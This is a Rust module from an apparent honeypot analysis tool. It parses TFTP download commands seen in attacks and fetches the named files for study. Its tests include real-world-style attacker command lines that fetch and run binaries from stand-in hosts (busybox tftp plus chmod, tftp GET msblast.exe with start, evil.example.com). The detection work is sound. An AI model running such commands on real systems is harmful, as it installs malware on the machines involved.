//! The `tftp` downloader: `tftp -i host GET file` (Windows), busybox
//! `tftp -g -r file host [port]`, tftp-hpa `tftp host -c get file` and `tftp://`
//! URLs, fetched with honeytrap's own client (RFC 1350): a read request in octet
//! mode, each DATA block acknowledged, the last packet sent again when nothing
//! arrives in time, block numbers wrapping after 65535, and the transfer ended with
//! an ERROR packet when the size cap is reached.

use super::command::{self, Command};
use super::{fetch_all, received, Job, Settings, Target};
use crate::analysis::registry::{self, Options, Registration};
use crate::analysis::{Analyzer, Download, Input, InputKind, Output, Stage};
use serde::{Deserialize, Serialize};
use std::net::{SocketAddr, UdpSocket};
use std::sync::Arc;
use std::time::Duration;

const OP_RRQ: u16 = 1;
const OP_DATA: u16 = 3;
const OP_ACK: u16 = 4;
const OP_ERROR: u16 = 5;
const BLOCK: usize = 512;

#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct TftpOptions {
    pub enabled: bool,
    /// How long to wait for a packet before sending the last one again.
    #[serde(with = "crate::config::units::duration")]
    pub retransmit: Duration,
    /// How many times the same packet is sent again before giving up.
    pub retries: u32,
}

impl Default for TftpOptions {
    fn default() -> Self {
        TftpOptions {
            enabled: true,
            retransmit: Duration::from_secs(1),
            retries: 5,
        }
    }
}

impl Options for TftpOptions {
    fn enabled(&self) -> bool {
        self.enabled
    }
}

pub fn registration() -> Registration {
    Registration {
        name: "tftp",
        stage: Stage::Analyze,
        about: "fetches files named in tftp commands (Windows, busybox, tftp-hpa) over TFTP",
        options: |table| {
            let o: TftpOptions = registry::parse(table)?;
            if o.retransmit.is_zero() {
                return Err(("retransmit".into(), "must be longer than 0".into()));
            }
            registry::options::<TftpOptions>(table)
        },
        build: |table, config| {
            let settings = Settings::from_config(config)?;
            registry::build_with(table, |o: TftpOptions| {
                Ok(Tftp {
                    settings,
                    options: o,
                })
            })
        },
    }
}

pub struct Tftp {
    settings: Arc<Settings>,
    options: TftpOptions,
}

/// One file to fetch.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TftpTarget {
    pub host: String,
    pub port: u16,
    pub file: String,
}

impl Target for TftpTarget {
    fn url(&self) -> String {
        let host = if self.host.contains(':') {
            format!("[{}]", self.host)
        } else {
            self.host.clone()
        };
        let file = self.file.trim_start_matches('/');
        format!("tftp://{host}:{}/{file}", self.port)
    }
    fn record(&self) -> Download {
        Download::new("tftp", self.url(), self.host.clone(), self.port)
    }
}

impl Analyzer for Tftp {
    fn name(&self) -> &'static str {
        "tftp"
    }
    fn stage(&self) -> Stage {
        Stage::Analyze
    }
    fn accepts(&self, _: InputKind) -> bool {
        true
    }
    fn run(&self, input: &Input, out: &mut Output) -> anyhow::Result<()> {
        let targets = command::instructions(input, &["tftp"], parse);
        fetch_all(&self.settings, input, targets, out, |t, job, d| {
            let addr = job.resolve(&t.host, t.port)?;
            d.host = addr.ip().to_string();
            let (data, truncated) = self.fetch(job, addr, &t.file)?;
            received(d, data, truncated);
            Ok(())
        });
        Ok(())
    }
}

impl Tftp {
    /// Read `file` from the server at `addr` (a checked address).
    fn fetch(&self, job: &Job, addr: SocketAddr, file: &str) -> Result<(Vec<u8>, bool), String> {
        let bind: SocketAddr = if addr.is_ipv4() {
            "0.0.0.0:0".parse().unwrap()
        } else {
            "[::]:0".parse().unwrap()
        };
        let sock = UdpSocket::bind(bind).map_err(|e| format!("socket: {e}"))?;
        let cap = job.settings.cfg.max_size as usize;
        let mut last = rrq(file);
        let mut dest = addr;
        // The server answers from a new port (its transfer id); learnt from the
        // first DATA, then only that port is listened to.
        let mut tid: Option<SocketAddr> = None;
        let mut expect: u16 = 1;
        let mut data = Vec::new();
        let mut tries = 0;
        sock.send_to(&last, dest)
            .map_err(|e| format!("send: {e}"))?;
        let mut buf = vec![0u8; 4 + BLOCK + 64];
        loop {
            let left = job.left().map_err(|_| "time cap reached".to_string())?;
            sock.set_read_timeout(Some(left.min(self.options.retransmit)))
                .map_err(|e| e.to_string())?;
            let (n, from) = match sock.recv_from(&mut buf) {
                Ok(x) => x,
                Err(e)
                    if matches!(
                        e.kind(),
                        std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
                    ) =>
                {
                    tries += 1;
                    if tries > self.options.retries {
                        return Err(format!(
                            "no answer after {} retransmissions (block {expect})",
                            self.options.retries
                        ));
                    }
                    let _ = sock.send_to(&last, dest);
                    continue;
                }
                Err(e) => return Err(format!("receive: {e}")),
            };
            if from.ip() != addr.ip() || tid.is_some_and(|t| t != from) {
                // Not our server, or another transfer id: RFC 1350 says tell it off.
                let _ = sock.send_to(&error(5, "Unknown transfer ID"), from);
                continue;
            }
            let pkt = &buf[..n];
            match packet(pkt) {
                Some((OP_DATA, block, payload)) => {
                    tid.get_or_insert(from);
                    dest = from;
                    if block == expect {
                        tries = 0;
                        let room = cap - data.len();
                        if payload.len() > room {
                            data.extend_from_slice(&payload[..room]);
                            let _ = sock.send_to(&error(0, "size limit"), dest);
                            return Ok((data, true));
                        }
                        data.extend_from_slice(payload);
                        last = ack(block);
                        let _ = sock.send_to(&last, dest);
                        if payload.len() < BLOCK {
                            return Ok((data, false));
                        }
                        if data.len() == cap {
                            let _ = sock.send_to(&error(0, "size limit"), dest);
                            return Ok((data, true));
                        }
                        expect = expect.wrapping_add(1);
                    } else if block == expect.wrapping_sub(1) {
                        // Our ACK was lost: the server sent the block again.
                        let _ = sock.send_to(&ack(block), dest);
                    }
                }
                Some((OP_ERROR, code, msg)) => {
                    return Err(format!(
                        "server error {code}: {}",
                        String::from_utf8_lossy(msg).trim_end_matches('\0')
                    ))
                }
                _ => {}
            }
        }
    }
}

/// A read request for `file` in octet mode.
fn rrq(file: &str) -> Vec<u8> {
    let mut p = OP_RRQ.to_be_bytes().to_vec();
    p.extend_from_slice(file.as_bytes());
    p.push(0);
    p.extend_from_slice(b"octet\0");
    p
}

fn ack(block: u16) -> Vec<u8> {
    let mut p = OP_ACK.to_be_bytes().to_vec();
    p.extend_from_slice(&block.to_be_bytes());
    p
}

fn error(code: u16, msg: &str) -> Vec<u8> {
    let mut p = OP_ERROR.to_be_bytes().to_vec();
    p.extend_from_slice(&code.to_be_bytes());
    p.extend_from_slice(msg.as_bytes());
    p.push(0);
    p
}

/// (opcode, block or error code, rest) of a packet.
fn packet(p: &[u8]) -> Option<(u16, u16, &[u8])> {
    if p.len() < 4 {
        return None;
    }
    Some((
        u16::from_be_bytes([p[0], p[1]]),
        u16::from_be_bytes([p[2], p[3]]),
        &p[4..],
    ))
}

/// Every TFTP download instruction in `text`.
pub fn parse(text: &str) -> Vec<TftpTarget> {
    let mut out = Vec::new();
    for c in command::commands(text) {
        for t in from_command(&c) {
            if !out.contains(&t) {
                out.push(t);
            }
        }
    }
    out
}

fn from_command(c: &Command) -> Vec<TftpTarget> {
    let (prog, args) = c.program();
    let (args, _) = command::strip_redirects(args);
    if prog == "tftp" {
        return tftp_args(&args).into_iter().collect();
    }
    // `tftp://host[:port]/file` anywhere in another command (curl, ...).
    args.iter().filter_map(|a| url(a)).collect()
}

fn url(a: &str) -> Option<TftpTarget> {
    let rest = a
        .strip_prefix("tftp://")
        .or_else(|| a.strip_prefix("TFTP://"))?;
    let (hostport, file) = rest.split_once('/')?;
    let u = url::Url::parse(&format!("tftp://{hostport}/")).ok()?;
    let host = u.host_str()?.trim_start_matches('[').trim_end_matches(']');
    if !command::is_host(host) || file.is_empty() {
        return None;
    }
    Some(TftpTarget {
        host: host.to_string(),
        port: u.port().unwrap_or(69),
        file: file.to_string(),
    })
}

/// The arguments of a `tftp` command, in any of the three syntaxes.
fn tftp_args(args: &[String]) -> Option<TftpTarget> {
    if let Some(t) = args.first().and_then(|a| url(a)) {
        return Some(t);
    }
    let (mut get, mut remote, mut local) = (false, None, None);
    let mut positional: Vec<&str> = Vec::new();
    let mut i = 0;
    while i < args.len() {
        let a = args[i].as_str();
        let lower = a.to_ascii_lowercase();
        match lower.as_str() {
            "-g" => get = true,
            "-p" => return None,
            "-r" | "-l" | "-b" | "-m" | "-t" | "-w" => {
                i += 1;
                let v = args.get(i).map(String::as_str);
                match lower.as_str() {
                    "-r" => remote = v,
                    "-l" => local = v,
                    _ => {}
                }
            }
            "-c" => {
                // tftp-hpa: `tftp host [port] -c get remote [local]`
                let rest = &args[i + 1..];
                if rest.first().is_some_and(|w| w.eq_ignore_ascii_case("get")) {
                    get = true;
                    remote = rest.get(1).map(String::as_str);
                }
                break;
            }
            _ if a.starts_with('-') && a.len() > 1 => {
                // Glued options: busybox `-gr file`, `-r/tmp/x`.
                if let Some(v) = a.strip_prefix("-r").filter(|v| !v.is_empty()) {
                    remote = Some(v);
                } else if a[1..].chars().all(|c| c.is_ascii_alphabetic()) {
                    get |= a.contains('g');
                    if a.ends_with('r') {
                        i += 1;
                        remote = args.get(i).map(String::as_str);
                    } else if a.ends_with('l') {
                        i += 1;
                        local = args.get(i).map(String::as_str);
                    }
                }
            }
            _ => positional.push(a),
        }
        i += 1;
    }
    // Windows: `tftp [-i] host GET source [destination]`.
    if let Some(k) = positional
        .iter()
        .position(|w| w.eq_ignore_ascii_case("get"))
    {
        if k >= 1 && command::is_host(positional[k - 1]) {
            let file = positional.get(k + 1)?;
            return target(positional[k - 1], None, file);
        }
        if k == 0 {
            return None;
        }
    }
    if positional.iter().any(|w| w.eq_ignore_ascii_case("put")) {
        return None;
    }
    // busybox / tftp-hpa: `tftp -g -r remote [-l local] host [port]`; without -r
    // busybox fetches the -l name.
    let file = remote.or(local)?;
    if !get && remote.is_none() {
        return None;
    }
    let host = positional.first()?;
    target(host, positional.get(1).copied(), file)
}

fn target(host: &str, port: Option<&str>, file: &str) -> Option<TftpTarget> {
    let host = host.trim_start_matches('[').trim_end_matches(']');
    if !command::is_host(host) || file.is_empty() {
        return None;
    }
    let port = match port {
        Some(p) => p.parse().ok().filter(|p| *p != 0)?,
        None => 69,
    };
    Some(TftpTarget {
        host: host.to_string(),
        port,
        file: file.to_string(),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn t(host: &str, port: u16, file: &str) -> TftpTarget {
        TftpTarget {
            host: host.into(),
            port,
            file: file.into(),
        }
    }

    #[test]
    fn real_world_command_lines() {
        let cases: &[(&str, &[TftpTarget])] = &[
            (
                "cmd /c tftp -i 1.2.3.4 GET msblast.exe",
                &[t("1.2.3.4", 69, "msblast.exe")],
            ),
            (
                "tftp.exe -i 1.2.3.4 get a.exe c:\\windows\\a.exe&start a.exe",
                &[t("1.2.3.4", 69, "a.exe")],
            ),
            ("tftp 5.6.7.8 GET x.exe", &[t("5.6.7.8", 69, "x.exe")]),
            (
                "cd /tmp; /bin/busybox tftp -g -r mips 9.8.7.6; chmod +x mips",
                &[t("9.8.7.6", 69, "mips")],
            ),
            (
                "busybox tftp -r arm7 -g 9.8.7.6 6969",
                &[t("9.8.7.6", 6969, "arm7")],
            ),
            (
                "tftp -g -l /tmp/.x -r bins/x86 evil.example.com",
                &[t("evil.example.com", 69, "bins/x86")],
            ),
            (
                "tftp -g -l dvrHelper 1.1.1.1",
                &[t("1.1.1.1", 69, "dvrHelper")],
            ),
            ("tftp 2.2.2.2 -c get tb.sh", &[t("2.2.2.2", 69, "tb.sh")]),
            (
                "tftp -gr sh4 3.3.3.3 2>/dev/null",
                &[t("3.3.3.3", 69, "sh4")],
            ),
            ("curl tftp://4.4.4.4:1069/a/b", &[t("4.4.4.4", 1069, "a/b")]),
            (
                "tftp -g -r x 1.2.3.4; tftp -g -r x 1.2.3.4",
                &[t("1.2.3.4", 69, "x")],
            ),
        ];
        for (text, want) in cases {
            assert_eq!(parse(text), *want, "{text}");
        }
    }

    #[test]
    fn not_downloads() {
        for text in [
            "tftp -i 1.2.3.4 PUT secrets.txt",
            "tftp -p -l x -r x 1.2.3.4",
            "tftp",
            "tftp -g 1.2.3.4",
            "tftp -i $IP GET a.exe",
            "echo tftp is fun",
        ] {
            assert!(parse(text).is_empty(), "{text}: {:?}", parse(text));
        }
    }

    #[test]
    fn url_form() {
        assert_eq!(t("1.2.3.4", 69, "/a").url(), "tftp://1.2.3.4:69/a");
        assert_eq!(t("fd00::1", 69, "a").url(), "tftp://[fd00::1]:69/a");
    }

    /// A TFTP server on loopback: serves `size` bytes (byte i = i % 251), losing
    /// the first DATA of block 2 once, from a transfer-id port.
    fn server(size: usize) -> u16 {
        let s = UdpSocket::bind("127.0.0.1:0").unwrap();
        let port = s.local_addr().unwrap().port();
        let data: Vec<u8> = (0..size).map(|i| (i % 251) as u8).collect();
        std::thread::spawn(move || {
            let mut buf = [0u8; 600];
            let (_, peer) = s.recv_from(&mut buf).unwrap();
            assert_eq!(&buf[..2], &[0, 1]);
            let t = UdpSocket::bind("127.0.0.1:0").unwrap();
            t.set_read_timeout(Some(Duration::from_millis(300)))
                .unwrap();
            let blocks = size / BLOCK + 1;
            let mut dropped = false;
            let mut k = 0usize;
            while k < blocks {
                let chunk = &data[k * BLOCK..((k + 1) * BLOCK).min(size)];
                let block = ((k + 1) % 65536) as u16;
                if k == 1 && !dropped {
                    dropped = true; // lost: the client must ask again
                } else {
                    let mut p = OP_DATA.to_be_bytes().to_vec();
                    p.extend_from_slice(&block.to_be_bytes());
                    p.extend_from_slice(chunk);
                    t.send_to(&p, peer).unwrap();
                }
                match t.recv_from(&mut buf) {
                    Ok((n, _))
                        if n >= 4
                            && buf[1] == 4
                            && u16::from_be_bytes([buf[2], buf[3]]) == block =>
                    {
                        k += 1
                    }
                    Ok((_, _)) if buf[1] == 5 => return,
                    _ => {}
                }
            }
        });
        port
    }

    fn tftp(max_size: u64) -> Tftp {
        Tftp {
            settings: super::super::testing::settings(max_size, &std::env::temp_dir()),
            options: TftpOptions {
                retransmit: Duration::from_millis(100),
                ..TftpOptions::default()
            },
        }
    }

    #[test]
    fn fetch_with_loss_and_cap() {
        use super::super::testing::{attack, run};
        let a = attack("203.0.113.5:4000");
        let port = server(3 * BLOCK + 17);
        let d = run(
            &tftp(1 << 20),
            &a,
            format!("tftp -g -r f 127.0.0.1 {port}").as_bytes(),
        );
        assert_eq!(d[0].error, None);
        let want: Vec<u8> = (0..3 * BLOCK + 17).map(|i| (i % 251) as u8).collect();
        assert_eq!(d[0].data.as_deref(), Some(&want));
        // An exact multiple of 512 ends with an empty block.
        let port = server(2 * BLOCK);
        let d = run(
            &tftp(1 << 20),
            &a,
            format!("tftp -g -r f 127.0.0.1 {port}").as_bytes(),
        );
        assert_eq!((d[0].size, d[0].truncated), (2 * BLOCK as u64, false));
        // Cut at the cap.
        let port = server(4 * BLOCK);
        let d = run(
            &tftp(700),
            &a,
            format!("tftp -g -r f 127.0.0.1 {port}").as_bytes(),
        );
        assert_eq!((d[0].size, d[0].truncated), (700, true));
        // No server: retransmissions, then an error.
        let d = run(&tftp(700), &a, b"tftp -g -r f 127.0.0.1 9");
        assert!(
            d[0].error.as_deref().unwrap().contains("no answer"),
            "{:?}",
            d[0].error
        );
    }

    #[test]
    fn block_numbers_wrap() {
        use super::super::testing::{attack, run};
        // More than 65535 blocks: the block number wraps to 0 and goes on.
        let size = 65_537 * BLOCK + 3;
        let port = server(size);
        let a = attack("203.0.113.5:4000");
        let d = run(
            &tftp(64 << 20),
            &a,
            format!("tftp -g -r big 127.0.0.1 {port}").as_bytes(),
        );
        assert_eq!(d[0].error, None);
        assert_eq!((d[0].size, d[0].truncated), (size as u64, false));
    }
}
